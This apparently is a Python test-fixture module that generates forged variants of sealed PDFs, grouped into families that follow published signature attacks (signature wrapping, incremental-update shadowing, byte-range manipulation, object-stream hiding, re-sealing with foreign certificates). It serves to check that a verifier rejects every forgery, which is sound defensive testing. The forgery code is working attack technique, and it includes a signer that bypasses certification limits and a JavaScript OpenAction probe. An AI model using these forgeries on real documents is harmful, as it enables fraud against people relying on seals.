"""A forger's workshop: every known way to change a sealed PDF so that somebody's viewer still shows it as sealed.

`forgeries(sealed, base, other)` yields (family, variant, bytes). The families follow the published attacks on PDF
signatures; none may ever be given a genuine verdict.

| family | idea |
|---|---|
| usf | universal signature forgery: spoil the signature's own entries so that validation is skipped |
| isa | incremental saving: append an update that changes the page, well-formed or not |
| swa | signature wrapping: point the byte range at relocated bytes, put other objects in between |
| shadow | replace or hide content by an update that many validators consider harmless |
| annotation | add an annotation, a form field or another signature after certification |
| range | byte-range tricks: gaps, overlaps, signs, spaces, doubled keys |
| stray | bytes before, after or between that nothing covers |
| stripped | the signature removed, emptied, or taken from another file |
| material | junk as validation material, or a stranger's timestamp |
| metadata | document information, XMP, version changed afterwards |
| object stream | the same replacements, compressed, so that raw bytes do not show them |
| stranger | sealed anew by somebody whose certificate says the same name |
"""

import re
import struct
import zlib
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from io import BytesIO

from asn1crypto import x509
from pyhanko.keys import load_private_key_from_pemder
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import PdfSignatureMetadata, PdfSigner, SimpleSigner
from pyhanko.sign.fields import SigSeedSubFilter
from pyhanko_certvalidator.registry import SimpleCertificateStore

from certlib.crypto.development import development_folder
from certlib.crypto.timestamps import DevelopmentTimestamps, Timestamper
from certlib.sealing.archive import _embed
from certlib.sealing.widget import Update
from tests.verify.samples import SEALED, base_pdf, seal, signer, timestamps

Forgery = tuple[str, str, bytes]
SM2_SM3_HEX = b"2a811ccf55018375"  # 1.2.156.10197.1.501 as a signature value writes it
RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\s*\]")
WHITE = b"1 0 0 RG 1 1 1 rg 50 50 500 700 re f"


def ranges(pdf: bytes) -> tuple[int, int, int]:
    """a, b, c of the first byte range [0 a b c]."""
    found = RANGE.search(pdf)
    assert found is not None
    a, b, c = map(int, found.groups())
    return a, b, c


def forgeries(sealed: bytes, other: bytes) -> Iterator[Forgery]:
    """All forgeries of `sealed`; `other` is another file under the same seal."""
    for family, make in FAMILIES.items():
        for variant, pdf in make(sealed, other):
            yield family, variant, pdf


Made = Iterator[tuple[str, bytes]]


def usf(sealed: bytes, _other: bytes) -> Made:
    """Spoil one entry of the signature, in place and of the same length, or by an update that redefines it."""
    a, b, _ = ranges(sealed)
    match = RANGE.search(sealed)
    assert match is not None
    whole, digits = match.group(), sealed[a + 1 : b - 1]
    spoiled = {
        "no byte range": (whole, whole.replace(b"/ByteRange", b"/BiteRange")),
        "byte range null": (whole, b"/ByteRange null".ljust(len(whole))),
        "byte range empty": (whole, b"/ByteRange []".ljust(len(whole))),
        "byte range short": (whole, f"/ByteRange [0 {a} {b}]".encode().ljust(len(whole))),
        "byte range negative": (whole, f"/ByteRange [0 -{a} {b} 0]".encode().ljust(len(whole))),
        "byte range of nothing": (whole, b"/ByteRange [0 0 0 0]".ljust(len(whole))),
        "contents zero": (digits, b"0" * len(digits)),
        "contents empty": (b"/Contents <" + digits, b"/Contents <>" + b" " * (len(digits) - 1)),
        "contents renamed": (b"/Contents <" + digits, b"/Cuntents <" + digits),
        "subfilter renamed": (b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detachee"),
        "filter renamed": (b"/Adobe.PPKLite", b"/Adobe.PPKLitf"),
    }
    for variant, (old, new) in spoiled.items():
        if old in sealed and len(old) == len(new):
            yield variant, sealed.replace(old, new, 1)
    for key, value in (
        ("/ByteRange", None),
        ("/Contents", None),
        ("/Contents", generic.ByteStringObject(b"\x00" * 64)),
    ):
        yield f"update: {key} {value!r:.12}", update(sealed, _redefine_signature(key, value))


def isa(sealed: bytes, _other: bytes) -> Made:
    """Append an update that draws over the page: well-formed, or lacking a part, or with a copied signature."""
    grown = update(sealed, _draw_over)
    yield "update", grown
    tail = grown[len(sealed) :]
    yield "without cross-reference table", sealed + tail[: tail.rindex(b"startxref")] + b"%%EOF\n"
    yield "without trailer", sealed + re.sub(rb"trailer.*?startxref", b"startxref", tail, flags=re.DOTALL)
    yield "without end of file", sealed + tail.rstrip()[: -len(b"%%EOF")]
    a, b, _ = ranges(sealed)
    copied = b"\n9000 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached"
    copied += b"/ByteRange[0 %d %d %d]/Contents %s>>\nendobj\n" % (a, b, len(sealed) - b, sealed[a:b])
    yield "with a copied signature", grown + copied
    yield "twice", update(grown, _draw_over)


def swa(sealed: bytes, _other: bytes) -> Made:
    """Move the second signed stretch to the end and put other objects before it."""
    a, b, c = ranges(sealed)
    evil = b"\n9001 0 obj\n<</Type/Page>>\nendobj\n"
    moved = f"/ByteRange [0 {a} {b + len(evil)} {c}]".encode()
    match = RANGE.search(sealed)
    assert match is not None
    if len(moved) <= len(match.group()):
        rewritten = sealed.replace(match.group(), moved.ljust(len(match.group())), 1)
        yield "byte range rewritten", rewritten[:b] + evil + rewritten[b:]
    inside = b">" + moved + b"/Padding <"
    padding = sealed[a:b].rstrip(b"0>")
    room = b - a - len(padding) - 1
    if room > len(inside) + 40:
        gap = padding + inside + b"0" * (room - len(inside)) + b">"
        yield "second byte range in the gap", sealed[:a] + gap + evil + sealed[b:]
    yield "objects in the gap", sealed[: b - 1] + b">" + evil + b"<" + sealed[b - 1 :]


def shadow(sealed: bytes, _other: bytes) -> Made:
    """Replace what a viewer shows and keep what was signed reachable."""
    yield "hide: page content replaced", update(sealed, _replace_content)
    yield "replace: font's map", update(sealed, _replace_font)
    yield "hide: seal's appearance emptied", update(sealed, _empty_appearance)
    yield "hide and replace: other page tree", update(sealed, _other_pages)
    yield "optional content", update(sealed, _optional_content)


def annotation(sealed: bytes, _other: bytes) -> Made:
    """Add something interactive after certification with P=1."""
    yield "free text", update(sealed, _annotate("/FreeText"))
    yield "stamp", update(sealed, _annotate("/Stamp"))
    yield "text field", update(sealed, _add_text_field)
    yield "empty signature field", update(sealed, _add_signature_field)
    yield "a stranger's second signature", approve(sealed, "seal-foreign")
    yield "our own second signature", approve(sealed, "seal-ganzhou-approval-approval-1")


def byte_range(sealed: bytes, _other: bytes) -> Made:
    """Write the byte range so that readers disagree about it."""
    a, b, c = ranges(sealed)
    match = RANGE.search(sealed)
    assert match is not None
    whole = match.group()
    wanted = {
        "plus signs": f"/ByteRange [+0 {a} {b} {c}]",
        "reals": f"/ByteRange [0 {a}.0 {b} {c}]",
        "leading zeros": f"/ByteRange [0 0{a} {b} {c}]",
        "five numbers": f"/ByteRange [0 {a} {b} {c} 0]",
        "starts at one": f"/ByteRange [1 {a - 1} {b} {c}]",
        "wider gap": f"/ByteRange [0 {a - 1} {b} {c}]",
        "narrower gap": f"/ByteRange [0 {a + 1} {b} {c}]",
        "ends early": f"/ByteRange [0 {a} {b} {c - 1}]",
        "ends beyond": f"/ByteRange [0 {a} {b} {c + 9}]",
        "parts swapped": f"/ByteRange [{b} {c} 0 {a}]",
        "a comment": f"/ByteRange [0 %\n{a} {b} {c}]",
    }
    for variant, text in wanted.items():
        if len(text) <= len(whole):
            yield variant, sealed.replace(whole, text.encode().ljust(len(whole)), 1)
    escaped = whole.replace(b"/ByteRange", b"/Byte#52ange")[: len(whole)]
    yield "escaped name", sealed.replace(whole, escaped, 1)
    gap = sealed[a:b]
    letters = gap.upper() if gap.lower() == gap else gap.lower()
    yield "white space in the gap", sealed[: b - 3] + b" 0>" + sealed[b:]
    yield "mixed letter case", sealed[:a] + gap[: len(gap) // 4] + letters[len(gap) // 4 :] + sealed[b:]
    yield "bytes in the padding", sealed[: b - 9] + b"deadbeef>" + sealed[b:]


def stray(sealed: bytes, other: bytes) -> Made:
    """Bytes before, after or between, which no signature covers; viewers pass over them."""
    a, b, _ = ranges(sealed)
    for variant, after in {
        "line break": b"\n",
        "space": b" ",
        "comment": b"% hello\n",
        "second end": b"%%EOF\n",
        "zeros": bytes(64),
        "another file": other,
        "itself": sealed,
        "an empty update": b"\nxref\n0 0\ntrailer\n<<>>\nstartxref\n0\n%%EOF\n",
    }.items():
        yield f"after: {variant}", sealed + after
    yield "before: line break", b"\n" + sealed
    yield "before: another file", other + sealed
    yield "before: script", b"#!/bin/sh\n" + sealed
    yield "cut by one byte", sealed[:-1]
    yield "cut in half", sealed[: len(sealed) // 2]
    yield "between", sealed[: a - 12] + b"\n" + sealed[a - 12 :]
    yield "one byte taken from the gap", sealed[: b - 2] + sealed[b - 1 :]


def stripped(sealed: bytes, other: bytes) -> Made:
    """No signature, or one that belongs elsewhere."""
    yield "never sealed", base_pdf()
    yield "update removed", sealed[: sealed.rindex(b"%%EOF", 0, ranges(sealed)[0]) + 6]
    yield "form removed by update", update(sealed, lambda writer: _drop(writer, "/AcroForm"))
    yield "field's value removed by update", update(sealed, _drop_value)
    a, b, _ = ranges(sealed)
    x, y, _ = ranges(other)
    foreign = other[x + 1 : y - 1].ljust(b - a - 2, b"0")[: b - a - 2]
    yield "another file's signature", sealed[: a + 1] + foreign + sealed[b - 1 :]
    mine = sealed[a + 1 : b - 1].ljust(y - x - 2, b"0")[: y - x - 2]
    yield "its signature in another file", other[: x + 1] + mine + other[y - 1 :]


def material(sealed: bytes, _other: bytes) -> Made:
    """An update that pretends to be validation material, or hides behind a document timestamp that is itself good."""
    for variant, change in {"page": _draw_over, "content": _replace_content, "form": _annotate("/Stamp")}.items():
        yield f"{variant} changed, then a good timestamp", archive(update(sealed, change))
    yield "junk store, then a good timestamp", archive(update(sealed, _junk_store(b"junk")))
    yield "a stranger's timestamp", archive(sealed, foreign_timestamps())
    yield "a timestamp by a seal", archive(sealed, DevelopmentTimestamps(signer()))
    yield "bytes after a good timestamp", archive(sealed) + b"\n"
    yield "page changed after a good timestamp", update(archive(sealed), _draw_over)
    yield "junk store", update(sealed, _junk_store(b"junk"))
    yield (
        "page under cover of a store",
        update(sealed, lambda writer: (_junk_store(b"junk")(writer), _draw_over(writer))),
    )
    yield "a seal where a timestamp belongs", update(sealed, _junk_timestamp)


def metadata(sealed: bytes, _other: bytes) -> Made:
    """Change what is said about the document."""
    yield "title", update(sealed, _retitle)
    yield "XMP", update(sealed, lambda writer: _drop(writer, "/Metadata"))
    yield "version in the header", sealed.replace(b"%PDF-1.7", b"%PDF-1.4", 1)
    yield "version in the catalogue", update(sealed, lambda writer: _put(writer, "/Version", name("/2.0")))
    yield "language", update(sealed, lambda writer: _put(writer, "/Lang", generic.TextStringObject("en")))
    yield "open action", update(sealed, _open_action)


def object_stream(sealed: bytes, _other: bytes) -> Made:
    """Put the replacement where raw bytes do not show it: compressed, in a hybrid, or in a stream that loops."""
    reader = PdfFileReader(BytesIO(sealed))
    page = reader.root["/Pages"]["/Kids"].raw_get(0).idnum
    pages = reader.root.raw_get("/Pages").idnum
    signature = int(re.findall(rb"(\d+) 0 obj", sealed[: ranges(sealed)[0]])[-1])
    blank = {page: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % pages}
    bare = {reader.root_ref.idnum: b"<</Type/Catalog/Pages %d 0 R>>" % pages}
    yield "page", _with_object_stream(sealed, blank)
    yield "catalogue without form", _with_object_stream(sealed, bare)
    yield "signature", _with_object_stream(sealed, {signature: b"<</Type/Sig/Filter/Adobe.PPKLite>>"})
    yield "page, in a stream that extends itself", _with_object_stream(sealed, blank, loops=True)
    yield "page, behind a table that names the stream", _with_object_stream(sealed, blank, hybrid=True)
    yield "page, then a good timestamp", archive(_with_object_stream(sealed, blank))


def stranger(_sealed: bytes, _other: bytes) -> Made:
    """Seal anew with a key that is not the seal's, or no longer or not yet or never was one."""
    for label, at in {
        "seal-foreign": SEALED,
        "seal-revoked": SEALED,
        "seal-expired": SEALED,
        "seal-early": SEALED,
        "seal-wrong-usage": SEALED,
    }.items():
        for suite in ("p256", "rsa"):
            yield f"{label} {suite}", seal(by=signer(label, suite), at=at)
    yield (
        "expired, back-dated without proof",
        seal(by=signer("seal-expired"), at=SEALED - timedelta(days=1500), stamped=False),
    )


FAMILIES: dict[str, Callable[[bytes, bytes], Made]] = {
    "usf": usf,
    "isa": isa,
    "swa": swa,
    "shadow": shadow,
    "annotation": annotation,
    "range": byte_range,
    "stray": stray,
    "stripped": stripped,
    "material": material,
    "metadata": metadata,
    "object stream": object_stream,
    "stranger": stranger,
}


def _with_object_stream(pdf: bytes, objects: dict[int, bytes], *, loops: bool = False, hybrid: bool = False) -> bytes:
    """`pdf` with an update whose objects stand in a compressed object stream, found by a cross-reference stream."""
    reader = PdfFileReader(BytesIO(pdf))
    number, before = int(reader.trailer["/Size"]), int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    places = [sum(len(one) + 1 for one in list(objects.values())[:at]) for at in range(len(objects))]
    head = b"".join(b"%d %d " % pair for pair in zip(objects, places, strict=True))
    packed = zlib.compress(head + b" ".join(objects.values()))
    extends = b"/Extends %d 0 R" % number if loops else b""
    entries = b"/Type/ObjStm/N %d/First %d%s" % (len(objects), len(head), extends)
    out = pdf + b"\n%d 0 obj\n<<%s/Filter/FlateDecode/Length %d>>stream\n" % (number, entries, len(packed))
    start, out = len(pdf) + 1, out + packed + b"\nendstream\nendobj\n"
    rows = [struct.pack(">BIH", 2, number, at) for at in range(len(objects))]
    rows += [struct.pack(">BIH", 1, start, 0), struct.pack(">BIH", 1, len(out), 0)]
    index = b"".join(b"%d 1 " % one for one in objects) + b"%d 2" % number
    root = b"/Root %d 0 R/Size %d/Prev %d" % (reader.root_ref.idnum, number + 2, before)
    table, data = len(out), b"".join(rows)
    out += b"%d 0 obj\n<</Type/XRef/W[1 4 2]/Index[%s]%s/Length %d>>stream\n" % (number + 1, index, root, len(data))
    out += data + b"\nendstream\nendobj\n"
    if hybrid:
        at = len(out)
        out += b"xref\n0 0\ntrailer\n<<%s/XRefStm %d>>\n" % (root, table)
        table = at
    return out + b"startxref\n%d\n%%%%EOF\n" % table


def update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], object]) -> bytes:
    """`pdf` with an incremental update."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def approve(pdf: bytes, label: str, field: str = "Seal2") -> bytes:
    """`pdf` with one more signature, as a viewer or a stranger would add it."""
    path = development_folder() / "seals" / f"{label}.rsa.pem"
    certificates = SimpleCertificateStore()
    certificates.register_multiple([x509.Certificate.load(one.der) for one in signer(label, "rsa").chain])
    own = SimpleSigner(
        signing_cert=x509.Certificate.load(signer(label, "rsa").certificate.der),
        signing_key=load_private_key_from_pemder(str(path), None),
        cert_registry=certificates,
    )
    meta = PdfSignatureMetadata(field_name=field, subfilter=SigSeedSubFilter.PADES, md_algorithm="sha256")
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    return _Reckless(meta, own).sign_pdf(writer).getvalue()  # type: ignore[no-any-return]


def archive(pdf: bytes, stamper: Timestamper | None = None, at: datetime = SEALED) -> bytes:
    """`pdf` with a document timestamp as its last revision, written as we write it, of our authority unless told."""
    return _embed(Update(BytesIO(pdf), strict=False), stamper or stamper_for(pdf), at).pdf


def stamper_for(pdf: bytes) -> Timestamper:
    """Our timestamp authority in the suite of the file's seal."""
    return timestamps("sm2-sm3") if SM2_SM3_HEX in pdf.lower() else timestamps()


def foreign_timestamps() -> Timestamper:
    """A timestamp authority that nobody knows."""
    return DevelopmentTimestamps(signer("seal-foreign"))


class _Reckless(PdfSigner):  # type: ignore[misc]
    """Signs whatever an earlier signature forbids."""

    def _enforce_certification_constraints(self, reader: object) -> None:
        pass


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.find_page_for_modification(0)[0].get_object()


def _draw_over(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    old = page.raw_get("/Contents")
    new = writer.add_object(generic.StreamObject(stream_data=WHITE))
    page[name("/Contents")] = generic.ArrayObject([old, new])
    writer.update_container(page)


def _replace_content(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page[name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=WHITE))
    writer.update_container(page)


def _replace_font(writer: IncrementalPdfFileWriter) -> None:
    fonts = _page(writer)["/Resources"]["/Font"]
    key = next(iter(fonts))
    font = fonts[key]
    font[name("/ToUnicode")] = writer.add_object(generic.StreamObject(stream_data=b"begincmap endcmap"))
    writer.update_container(font)


def _widget(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/AcroForm"]["/Fields"][0]


def _empty_appearance(writer: IncrementalPdfFileWriter) -> None:
    widget = _widget(writer)
    widget[name("/AP")] = generic.DictionaryObject(
        {name("/N"): writer.add_object(generic.StreamObject(stream_data=b""))}
    )
    writer.update_container(widget)


def _other_pages(writer: IncrementalPdfFileWriter) -> None:
    page = generic.DictionaryObject({name("/Type"): name("/Page"), name("/MediaBox"): _page(writer).get("/MediaBox")})
    reference = writer.add_object(page)
    tree = generic.DictionaryObject(
        {
            name("/Type"): name("/Pages"),
            name("/Kids"): generic.ArrayObject([reference]),
            name("/Count"): generic.NumberObject(1),
        }
    )
    _put(writer, "/Pages", writer.add_object(tree))


def _optional_content(writer: IncrementalPdfFileWriter) -> None:
    _put(writer, "/OCProperties", generic.DictionaryObject({name("/OCGs"): generic.ArrayObject()}))


def _annotate(kind: str) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        note = {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name(kind),
            name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (100, 100, 400, 300))),
            name("/Contents"): generic.TextStringObject("批准"),
            name("/DA"): generic.TextStringObject("/Helv 12 Tf"),
        }
        page["/Annots"].append(writer.add_object(generic.DictionaryObject(note)))
        writer.update_container(page["/Annots"])

    return change


def _add_field(writer: IncrementalPdfFileWriter, kind: str) -> None:
    field = {
        name("/FT"): name(kind),
        name("/T"): generic.TextStringObject("Extra"),
        name("/Type"): name("/Annot"),
        name("/Subtype"): name("/Widget"),
        name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 0, 0))),
    }
    form = writer.root["/AcroForm"]
    form["/Fields"].append(writer.add_object(generic.DictionaryObject(field)))
    writer.update_container(form["/Fields"])


def _add_text_field(writer: IncrementalPdfFileWriter) -> None:
    _add_field(writer, "/Tx")


def _add_signature_field(writer: IncrementalPdfFileWriter) -> None:
    _add_field(writer, "/Sig")


def _drop(writer: IncrementalPdfFileWriter, key: str) -> None:
    del writer.root[key]
    writer.update_root()


def _put(writer: IncrementalPdfFileWriter, key: str, value: generic.PdfObject) -> None:
    writer.root[name(key)] = value
    writer.update_root()


def _drop_value(writer: IncrementalPdfFileWriter) -> None:
    widget = _widget(writer)
    del widget["/V"]
    writer.update_container(widget)


def _redefine_signature(key: str, value: generic.PdfObject | None) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        signature = _widget(writer)["/V"]
        if value is None:
            del signature[key]
        else:
            signature[name(key)] = value
        writer.update_container(signature)

    return change


def _junk_store(data: bytes) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        junk = writer.add_object(generic.StreamObject(stream_data=data))
        store = generic.DictionaryObject({name("/CRLs"): generic.ArrayObject([junk])})
        _put(writer, "/DSS", writer.add_object(store))

    return change


def _junk_timestamp(writer: IncrementalPdfFileWriter) -> None:
    _add_signature_field(writer)
    field = writer.root["/AcroForm"]["/Fields"][1]
    field[name("/V")] = _widget(writer).raw_get("/V")


def _retitle(writer: IncrementalPdfFileWriter) -> None:
    info = writer.trailer["/Info"]
    info[name("/Title")] = generic.TextStringObject("营业执照")
    writer.update_container(info)


def _open_action(writer: IncrementalPdfFileWriter) -> None:
    action = {name("/S"): name("/JavaScript"), name("/JS"): generic.TextStringObject("app.alert(1)")}
    _put(writer, "/OpenAction", generic.DictionaryObject(action))
